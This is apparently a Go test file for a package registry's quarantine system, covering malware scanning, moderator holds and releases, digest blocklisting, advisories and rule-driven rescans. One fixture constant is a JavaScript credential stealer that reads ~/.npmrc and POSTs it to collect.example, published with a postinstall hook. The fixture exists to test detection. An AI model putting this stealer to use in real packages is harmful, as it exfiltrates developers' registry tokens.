package quarantine_test

import (
	"context"
	"encoding/json"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/rampart/rampart/internal/authz"
	"github.com/rampart/rampart/internal/config"
	"github.com/rampart/rampart/internal/core"
	npmfmt "github.com/rampart/rampart/internal/ecosystem/npm"
	"github.com/rampart/rampart/internal/identity"
	"github.com/rampart/rampart/internal/malscan"
	"github.com/rampart/rampart/internal/npmfixture"
	"github.com/rampart/rampart/internal/quarantine"
	"github.com/rampart/rampart/internal/server"
	"github.com/rampart/rampart/internal/store"
	"github.com/rampart/rampart/internal/store/eventcheck"
	"github.com/rampart/rampart/internal/testclock"
)

var t0 = time.Date(2030, 3, 4, 12, 0, 0, 0, time.UTC)

// env is the services over a fresh data folder, every write checked for
// its event (eventcheck), with a clock the test moves.
type env struct {
	t          *testing.T
	ctx        context.Context
	clock      *testclock.Clock
	svc        *server.Services
	alice, mod *core.User
	advisories *recorder
}

// recorder is the MaliciousAdvisories the lead wires to internal/advisory.
type recorder struct {
	mu    sync.Mutex
	calls []string
}

func (r *recorder) PublishMalicious(_ context.Context, actor string, pkg core.PackageRef, versions []string, summary, details string) (string, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.calls = append(r.calls, actor+" "+pkg.Name+"@"+strings.Join(versions, ",")+" "+summary+" | "+details)
	return "MAL-2030-0001", nil
}

func newEnv(t *testing.T) *env {
	t.Helper()
	cfg := config.Default()
	cfg.Data = t.TempDir()
	cfg.InsecureFastPasswordHashing = true
	if err := cfg.Validate(); err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	clock := testclock.New(t0)
	svc, err := server.Open(ctx, cfg, server.Options{Now: clock.Now, Log: slog.New(slog.DiscardHandler),
		WrapStore: func(s store.Store) store.Store { return eventcheck.Wrap(t, s) }})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { svc.Close(ctx) })
	e := &env{t: t, ctx: ctx, clock: clock, svc: svc, advisories: &recorder{}}
	svc.Quarantine.UseAdvisories(e.advisories)
	e.alice, e.mod = e.user("alice"), e.user("mod")
	if err := svc.Orgs.SetModerator(ctx, authz.Principal{User: &core.User{Name: "operator", Admin: true}, Console: true}, "mod", true); err != nil {
		t.Fatal(err)
	}
	e.mod.Moderator = true
	return e
}

func (e *env) user(name string) *core.User {
	e.t.Helper()
	u, err := e.svc.Identity.CreateUser(e.ctx, "operator", identity.NewUser{
		Name: name, Email: name + "@example.com", Password: "a-long-secret-phrase", Verified: true})
	if err != nil {
		e.t.Fatal(err)
	}
	return u
}

// as is u in a browser that confirmed its security key just now.
func (e *env) as(u *core.User) authz.Principal {
	now := e.clock.Now()
	return authz.Principal{User: u, MFA: true, HasKey: true, MFAVerifiedAt: now, PhishingResistantAt: now, Now: now}
}

const stealer = `const fs = require('fs'), os = require('os');
const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
require('https').request({ host: 'collect.example', method: 'POST' }).end(t);
`

func body(name, version string, files map[string]string, scripts map[string]any) []byte {
	pj := map[string]any{"name": name, "version": version, "description": "test package"}
	if scripts != nil {
		pj["scripts"] = scripts
	}
	tgz := npmfixture.Package(pj, files)
	return npmfixture.Publish{Manifest: pj, Tarball: tgz, Tag: "latest"}.Body()
}

// served lists the versions in the package's public document.
func (e *env) served(name string) []string {
	e.t.Helper()
	d, err := e.svc.Registry.Document(e.ctx, authz.Principal{}, name, store.DocFull)
	if core.KindOf(err) == core.KindNotFound {
		return nil
	}
	if err != nil {
		e.t.Fatal(err)
	}
	var doc struct {
		Versions map[string]any    `json:"versions"`
		Tags     map[string]string `json:"dist-tags"`
	}
	if err := json.Unmarshal(d.Full, &doc); err != nil {
		e.t.Fatal(err)
	}
	var out []string
	for v := range doc.Versions {
		out = append(out, v)
	}
	return out
}

func (e *env) tarball(name, version string) error {
	tb, err := e.svc.Registry.OpenTarball(e.ctx, authz.Principal{}, name, name+"-"+version+".tgz")
	if err == nil {
		tb.Close()
	}
	return err
}

// A stealer is committed quarantined: never in the document, its tarball
// refused, the publisher told, the findings and the hold recorded. A
// moderator's release serves it again and moves latest to it.
func TestScanHoldsAndReleaseServes(t *testing.T) {
	e := newEnv(t)
	if _, err := e.svc.Registry.Publish(e.ctx, e.as(e.alice), "lib", body("lib", "1.0.0", map[string]string{"index.js": "module.exports = 1\n"}, nil)); err != nil {
		t.Fatal(err)
	}
	out, err := e.svc.Registry.Publish(e.ctx, e.as(e.alice), "lib", body("lib", "1.0.1", map[string]string{"index.js": stealer}, map[string]any{"postinstall": "node index.js"}))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.Notice, "quarantined") || !strings.Contains(out.Notice, malscan.RuleCredentialExfil) {
		t.Errorf("the publisher was told %q", out.Notice)
	}
	if got := e.served("lib"); len(got) != 1 || got[0] != "1.0.0" {
		t.Fatalf("served %v, want only 1.0.0", got)
	}
	if err := e.tarball("lib", "1.0.1"); core.KindOf(err) != core.KindNotFound || strings.Contains(err.Error(), "quarantined") {
		t.Fatalf("anonymous tarball of the held version: %v, want not found, saying nothing", err)
	}
	if tb, err := e.svc.Registry.OpenTarball(e.ctx, e.as(e.alice), "lib", "lib-1.0.1.tgz"); err == nil {
		tb.Close()
		t.Fatal("the maintainer downloaded the held version")
	} else if !strings.Contains(err.Error(), "quarantined: held for review") {
		t.Fatalf("the maintainer was told %v", err)
	}
	held, n, err := e.svc.Quarantine.HeldVersions(e.ctx, e.as(e.mod), 10, 0)
	if err != nil || n != 1 || held[0].Version != "1.0.1" || held[0].Hold.Kind != core.HoldScan || held[0].Findings == 0 {
		t.Fatalf("held = %+v, %d, %v", held, n, err)
	}
	if _, _, err := e.svc.Quarantine.HeldVersions(e.ctx, e.as(e.alice), 10, 0); core.KindOf(err) != core.KindForbidden {
		t.Errorf("a maintainer listed the held versions: %v", err)
	}
	ev, err := e.svc.Quarantine.Evidence(e.ctx, e.as(e.mod), "lib", "1.0.1")
	if err != nil {
		t.Fatal(err)
	}
	if ev.Previous != "1.0.0" || len(ev.Files) != 2 || len(ev.Findings) == 0 || ev.Findings[0].File != "index.js" {
		t.Fatalf("evidence = %+v", ev)
	}
	changed := false
	for _, d := range ev.Diff {
		if d.Path == "index.js" && d.Status == "changed" && strings.Contains(strings.Join(d.Lines, "\n"), "+require('https')") {
			changed = true
		}
	}
	if !changed {
		t.Errorf("diff = %+v", ev.Diff)
	}

	if _, err := e.svc.Quarantine.Release(e.ctx, e.as(e.alice), "lib", "1.0.1", "mine"); core.KindOf(err) != core.KindForbidden {
		t.Fatalf("a maintainer released their own version: %v", err)
	}
	rel, err := e.svc.Quarantine.Release(e.ctx, e.as(e.mod), "lib", "1.0.1", "a test fixture, not a stealer")
	if err != nil {
		t.Fatal(err)
	}
	if rel.State != core.StateLive || rel.Tag != "latest" {
		t.Errorf("release = %+v", rel)
	}
	if got := e.served("lib"); len(got) != 2 {
		t.Fatalf("after release served %v", got)
	}
	if err := e.tarball("lib", "1.0.1"); err != nil {
		t.Fatalf("tarball after release: %v", err)
	}
	// A rescan does not hold it again for the same rules.
	r, err := e.svc.Quarantine.StartRescan(e.ctx, e.as(e.mod), "lib")
	if err != nil {
		t.Fatal(err)
	}
	st := e.waitRescan(r.ID)
	if st.Done != 2 || st.Held != 0 || st.State != "done" {
		t.Fatalf("rescan = %+v", st)
	}
	if got := e.served("lib"); len(got) != 2 {
		t.Fatalf("after rescan served %v", got)
	}
}

func (e *env) waitRescan(id int64) *core.Rescan {
	e.t.Helper()
	// The rescan runs in the background group; wait for its row.
	for range 2000 {
		r, err := e.svc.Quarantine.RescanStatus(e.ctx, e.as(e.mod))
		if err != nil {
			e.t.Fatal(err)
		}
		if r.ID == id && r.State != "running" {
			return r
		}
		time.Sleep(5 * time.Millisecond)
	}
	e.t.Fatal("the rescan did not finish")
	return nil
}

// Confirm: unpublished for good, its digests blocklisted (the same bytes
// under another name are held), the advisory published, the
// maintainers' tokens revoked; it can never be restored.
func TestConfirmBlocklistsAndPublishesAdvisory(t *testing.T) {
	e := newEnv(t)
	files := map[string]string{"index.js": stealer}
	if _, err := e.svc.Registry.Publish(e.ctx, e.as(e.alice), "evil", body("evil", "1.0.0", files, nil)); err != nil {
		t.Fatal(err)
	}
	stale := e.as(e.mod)
	stale.MFAVerifiedAt, stale.PhishingResistantAt = t0.Add(-time.Hour), t0.Add(-time.Hour)
	if _, err := e.svc.Quarantine.Confirm(e.ctx, stale, "evil", "1.0.0", "steals npm tokens", quarantine.ConfirmOptions{}); core.KindOf(err) != core.KindOTPRequired {
		t.Fatalf("confirm without a fresh factor: %v", err)
	}
	out, err := e.svc.Quarantine.Confirm(e.ctx, e.as(e.mod), "evil", "1.0.0", "steals npm tokens", quarantine.ConfirmOptions{RevokeTokens: true})
	if err != nil {
		t.Fatal(err)
	}
	if out.State != core.StateUnpublished || out.Advisory != "MAL-2030-0001" || out.Blocked < 3 {
		t.Errorf("confirm = %+v", out)
	}
	if len(e.advisories.calls) != 1 || !strings.Contains(e.advisories.calls[0], "mod evil@1.0.0 Malicious code in evil") || !strings.Contains(e.advisories.calls[0], "steals npm tokens") {
		t.Errorf("advisories = %q", e.advisories.calls)
	}
	if _, err := e.svc.Quarantine.Restore(e.ctx, e.as(e.mod), "evil", "1.0.0", "oops"); core.KindOf(err) != core.KindConflict {
		t.Errorf("restore of a confirmed version: %v", err)
	}
	// The same file in another package, with no rule hitting it (the
	// rules are off for this one: a plain data file) is held by digest.
	if _, err := e.svc.Registry.Publish(e.ctx, e.as(e.alice), "evil2", body("evil2", "2.0.0", files, nil)); err != nil {
		t.Fatal(err)
	}
	if got := e.served("evil2"); len(got) != 0 {
		t.Fatalf("the blocklisted bytes were served as evil2: %v", got)
	}
	ev, err := e.svc.Quarantine.Evidence(e.ctx, e.as(e.mod), "evil2", "2.0.0")
	if err != nil {
		t.Fatal(err)
	}
	blocked := false
	for _, f := range ev.Findings {
		blocked = blocked || (f.Rule == core.RuleBlocklist && f.File == "index.js" && strings.Contains(f.Summary, "evil@1.0.0"))
	}
	if !blocked {
		t.Errorf("findings = %+v", ev.Findings)
	}
}

// Hold by hand, remove and restore; a rescan with a new operator rule
// holds an existing version, with progress.
func TestHoldRemoveRestoreAndRescan(t *testing.T) {
	e := newEnv(t)
	for _, v := range []string{"1.0.0", "1.1.0"} {
		if _, err := e.svc.Registry.Publish(e.ctx, e.as(e.alice), "app", body("app", v, map[string]string{"index.js": "fetch('https://telemetry.example/ping?v=" + v + "')\n"}, nil)); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := e.svc.Quarantine.Hold(e.ctx, e.as(e.mod), "app", "1.0.0", ""); core.KindOf(err) != core.KindInvalid {
		t.Errorf("hold without a reason: %v", err)
	}
	if _, err := e.svc.Quarantine.Hold(e.ctx, e.as(e.mod), "app", "1.0.0", "reported as spam"); err != nil {
		t.Fatal(err)
	}
	if _, err := e.svc.Quarantine.Remove(e.ctx, e.as(e.mod), "app", "1.0.0", "spam, confirmed"); err != nil {
		t.Fatal(err)
	}
	if got := e.served("app"); len(got) != 1 || got[0] != "1.1.0" {
		t.Fatalf("served %v", got)
	}
	if _, err := e.svc.Quarantine.Release(e.ctx, e.as(e.mod), "app", "1.0.0", "x"); core.KindOf(err) != core.KindConflict {
		t.Errorf("release of a removed version: %v", err)
	}
	if _, err := e.svc.Quarantine.Restore(e.ctx, e.as(e.mod), "app", "1.0.0", "not spam after all"); err != nil {
		t.Fatal(err)
	}
	if got := e.served("app"); len(got) != 2 {
		t.Fatalf("after restore served %v", got)
	}

	// An operator rule against the telemetry host, and a rescan of every
	// package with it.
	rules := filepath.Join(t.TempDir(), "rules.json")
	os.WriteFile(rules, []byte(`{"rules":[{"id":"ACME-TELEMETRY","severity":"medium","description":"calls home to telemetry.example","files":["*.js"],"all":[{"string":"telemetry.example"}]}]}`), 0o600)
	extra, err := malscan.LoadRuleFiles([]string{rules})
	if err != nil {
		t.Fatal(err)
	}
	reg := e.svc.Registry
	q := quarantine.New(reg.Store(), reg.Blobs(), quarantine.Config{
		Scanner: quarantine.NewScanner(extra, 64<<20, e.clock.Now), PublicURL: "http://registry.example/", Mailer: nil, Console: true,
		Hooks: quarantine.Hooks{Touch: reg.Touch, Refresh: reg.RefreshDocument, Signed: reg.Signed, Format: npmfmt.Format{}},
	}, e.clock.Now, slog.New(slog.DiscardHandler))
	r, err := q.StartRescan(e.ctx, e.as(e.mod), "")
	if err != nil {
		t.Fatal(err)
	}
	if r.State != "done" || r.Total != 2 || r.Done != 2 || r.Held != 2 {
		t.Fatalf("rescan = %+v", r)
	}
	if got := e.served("app"); len(got) != 0 {
		t.Fatalf("after the rescan served %v", got)
	}
	held, _, err := q.HeldVersions(e.ctx, e.as(e.mod), 10, 0)
	if err != nil || len(held) != 2 || held[0].Hold.Kind != core.HoldScan || !strings.Contains(held[0].Hold.Reason, "ACME-TELEMETRY") {
		t.Fatalf("held = %+v, %v", held, err)
	}
}
